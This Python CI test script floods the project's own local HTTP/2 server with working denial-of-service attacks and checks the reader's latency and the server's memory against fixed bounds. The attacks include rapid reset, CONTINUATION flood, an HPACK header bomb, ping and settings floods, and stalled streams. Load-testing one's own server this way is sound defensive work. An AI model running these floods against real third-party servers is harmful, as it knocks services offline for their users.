"""Attacks a server over HTTP/2, in ways that a client of HTTP/1.1 has no means for, while a reader reads. Prints what
each attack costs. Fails if a bound is exceeded (docs/security-testing.md).

    python3 .ci/http2_attacks.py target/release/byline
"""

import os
import pathlib
import signal
import socket
import sqlite3
import ssl
import struct
import subprocess
import sys
import tempfile
import threading
import time

FLOOD_SECONDS = 6
CLIENTS = 4
# WRITE_TIMEOUT_SECONDS and REQUEST_TIMEOUT_SECONDS of the server.
WRITE_TIMEOUT, REQUEST_TIMEOUT = 5, 15
# Bounds of the 99th percentile of the reader's waits in ms, of the growth of the memory in MiB, and of the memory 20 s
# after an attack, of the memory before all attacks, when the cache was full.
MAX_P99, MAX_GROWTH, MAX_LEFT = 15, 200, 1.3

# Types of frames, and flags (RFC 9113, section 6).
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 1, 3, 4, 6, 9
ACK, END_STREAM, END_HEADERS = 1, 1, 4
CANCEL = 8
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string of a head, not compressed (RFC 7541, section 5.2)."""
    value = value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return length + bytes([rest]) + value


def field(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def head(path, method=b"\x82"):
    return method + b"\x87" + field(":path", path) + field(":authority", "localhost")


POST = b"\x83"


class Server:
    """A server with a database of its own."""

    def __init__(self, program, directory):
        with socket.socket() as listener:
            listener.bind(("127.0.0.1", 0))
            self.port = listener.getsockname()[1]
        certificate, key = directory / "certificate.pem", directory / "key.pem"
        subprocess.run(
            ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=localhost"]
            + ["-keyout", key, "-out", certificate],
            check=True,
            capture_output=True,
        )
        settings = os.environ | {
            "DATA_DIR": str(directory),
            "SECRET_KEY": "0123456789abcdef" * 4,
            "LOG": "warn",
            "PORT": str(self.port),
            "TLS_CERT": str(certificate),
            "TLS_KEY": str(key),
            "WRITE_TIMEOUT_SECONDS": str(WRITE_TIMEOUT),
            "REQUEST_TIMEOUT_SECONDS": str(REQUEST_TIMEOUT),
        }
        for command in (["migrate", "up"], ["seed", "--users", "1", "--articles", "3000", "--drafts", "0"]):
            subprocess.run([program, *command], env=settings, check=True, stdout=subprocess.DEVNULL)
        with sqlite3.connect(directory / "byline.db") as database:
            # A page of 1,000 articles has 10 MB.
            database.execute("UPDATE articles SET content = ? WHERE id <= 1000", ["a" * 10_000])
            database.execute("DELETE FROM search_queue")
        self.process = subprocess.Popen([program, "serve"], env=settings)
        deadline = time.monotonic() + 10
        while True:
            try:
                return self.connect("http/1.1").close()
            except ConnectionRefusedError:
                if time.monotonic() > deadline:
                    sys.exit("http2_attacks: the server does not start")
                time.sleep(0.05)

    def memory(self):
        """The resident memory in MiB."""
        lines = pathlib.Path(f"/proc/{self.process.pid}/status").read_text().splitlines()
        return next(int(line.split()[1]) for line in lines if line.startswith("VmRSS")) / 1024

    def connect(self, protocol="h2", settings=b""):
        context = ssl._create_unverified_context()
        context.set_alpn_protocols([protocol])
        connection = socket.create_connection(("127.0.0.1", self.port), timeout=20)
        connection = context.wrap_socket(connection, server_hostname="localhost")
        if protocol == "h2":
            preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
            connection.sendall(preface + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, ACK, 0))
        return connection


class Reader(threading.Thread):
    """Reads articles over HTTP/1.1, one after the other."""

    def __init__(self, server):
        super().__init__()
        self.server, self.waits, self.failed, self.is_done = server, [], 0, False
        self.start()

    def run(self):
        connection = self.server.connect("http/1.1")
        while not self.is_done:
            start = time.perf_counter()
            request = f"GET /articles/{2000 + len(self.waits) % 900} HTTP/1.1\r\nhost: localhost\r\n\r\n"
            try:
                connection.sendall(request.encode())
                self.failed += not read_response(connection).startswith(b"HTTP/1.1 200")
            except OSError:
                self.failed += 1
                connection = self.server.connect("http/1.1")
            self.waits.append((time.perf_counter() - start) * 1000)
            time.sleep(0.005)

    def end(self):
        """The 99th percentile of its waits in ms, and the number of reads that failed."""
        self.is_done = True
        self.join()
        return sorted(self.waits)[len(self.waits) * 99 // 100], self.failed


def read_response(connection):
    response = b""
    while b"\r\n\r\n" not in response:
        response += connection.recv(65536) or fail_to_read()
    start, body = response.split(b"\r\n\r\n", 1)
    length = next(int(line[15:]) for line in start.split(b"\r\n") if line.lower().startswith(b"content-length:"))
    while len(body) < length:
        body += connection.recv(65536) or fail_to_read()
    return start


def fail_to_read():
    raise ConnectionError("the server has closed the connection")


def quiet(_):
    time.sleep(4)


def stalled_streams(server):
    """10 connections ask for 100 pages of 10 MB each, and accept nothing of the bodies."""
    connections = [server.connect(settings=struct.pack(">HI", INITIAL_WINDOW_SIZE, 0)) for _ in range(10)]
    for connection in connections:
        for number in range(100):
            request = head(f"/articles/?limit=1000&skip={number}")
            connection.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, request))
    time.sleep(WRITE_TIMEOUT + 3)
    return connections


def unfinished_bodies(server):
    """100 connections begin 100 requests each, and do not send the bodies that they announce."""
    connections = [server.connect() for _ in range(100)]
    for connection in connections:
        request = head("/articles/", POST) + field("content-type", "application/json")
        for number in range(100):
            connection.sendall(frame(HEADERS, END_HEADERS, 2 * number + 1, request))
    time.sleep(REQUEST_TIMEOUT + 3)
    return connections


def flood(server, send, reads=True):
    """Calls `send` with a connection and a number until the time is over, from all clients at the same time. A client
    whose connection is closed opens another one."""
    end = time.monotonic() + FLOOD_SECONDS

    def attack():
        while time.monotonic() < end:
            try:
                connection = server.connect()
                number = 0
                while time.monotonic() < end:
                    send(connection, number)
                    if reads:
                        read_available(connection)
                    number += 1
            except OSError:
                time.sleep(0.05)

    clients = [threading.Thread(target=attack) for _ in range(CLIENTS)]
    for client in clients:
        client.start()
    for client in clients:
        client.join()


def read_available(connection):
    """Reads what has arrived."""
    connection.setblocking(False)
    try:
        while connection.recv(65536):
            pass
        fail_to_read()
    except ssl.SSLWantReadError:
        connection.settimeout(20)


def rapid_resets(server):
    """Requests that are cancelled at once (CVE-2023-44487)."""

    def send(connection, number):
        frames = b""
        for stream in range(100 * number + 1, 100 * number + 101, 2):
            request = head(f"/articles/?limit=100&skip={stream}")
            frames += frame(HEADERS, END_STREAM | END_HEADERS, stream, request)
            frames += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        connection.sendall(frames)

    flood(server, send)


def endless_heads(server):
    """Heads that never end (CVE-2024-27316)."""

    def send(connection, number):
        if number == 0:
            connection.sendall(frame(HEADERS, END_STREAM, 1, head("/")))
        connection.sendall(frame(CONTINUATION, 0, 1, field("name", "v" * 100) * 100))

    flood(server, send)


def compressed_heads(server):
    """Heads of 8 KB that stand for 31 MB: 8,000 references to one long field."""

    def send(connection, number):
        request = head("/articles/1") + (field("a", "v" * 3900, indexed=True) if number == 0 else b"")
        connection.sendall(frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, request + b"\xbe" * 8000))

    flood(server, send)


def unread_answers(server):
    """Pings and settings whose acknowledgements are not read (CVE-2019-9512, CVE-2019-9515)."""
    frames = frame(PING, 0, 0, b"12345678") * 200 + frame(SETTINGS, 0, 0) * 20
    flood(server, lambda connection, _: connection.sendall(frames), reads=False)


ATTACKS = [
    quiet,
    stalled_streams,
    unfinished_bodies,
    rapid_resets,
    endless_heads,
    compressed_heads,
    unread_answers,
]


def measure(server, attack, rest):
    """Runs an attack, prints its figures, and returns whether all bounds hold."""
    before = server.memory()
    peak, is_done = [before], threading.Event()

    def watch():
        while not is_done.wait(0.05):
            peak[0] = max(peak[0], server.memory())

    watcher, reader = threading.Thread(target=watch), Reader(server)
    watcher.start()
    connections = attack(server) or []
    p99, failed = reader.end()
    is_done.set()
    watcher.join()
    deadline = time.monotonic() + 20
    while (left := server.memory() / rest) > 1.1 and time.monotonic() < deadline:
        time.sleep(0.5)
    for connection in connections:
        connection.close()
    growth = peak[0] - before
    held = p99 <= MAX_P99 and growth <= MAX_GROWTH and left <= MAX_LEFT and failed == 0
    print(
        f"{attack.__name__:18} p99 of the reader {p99:6.1f} ms, failed reads {failed}, memory +{growth:.0f} MiB, "
        f"then {left:.2f} of that at rest{'' if held else '  EXCEEDED'}",
        flush=True,
    )
    return held


def fill_cache(server):
    connection = server.connect("http/1.1")
    for number in range(1, 3001):
        connection.sendall(f"GET /articles/{number} HTTP/1.1\r\nhost: localhost\r\n\r\n".encode())
        read_response(connection)


def main():
    program = os.path.abspath(sys.argv[1])
    with tempfile.TemporaryDirectory(prefix="byline-http2-", dir=os.environ.get("TMPDIR")) as directory:
        server = Server(program, pathlib.Path(directory))
        try:
            fill_cache(server)
            rest = server.memory()
            held = [measure(server, attack, rest) for attack in ATTACKS]
        finally:
            server.process.send_signal(signal.SIGINT)
        if server.process.wait() != 0 or not all(held):
            sys.exit("http2_attacks: a bound is exceeded")


main()
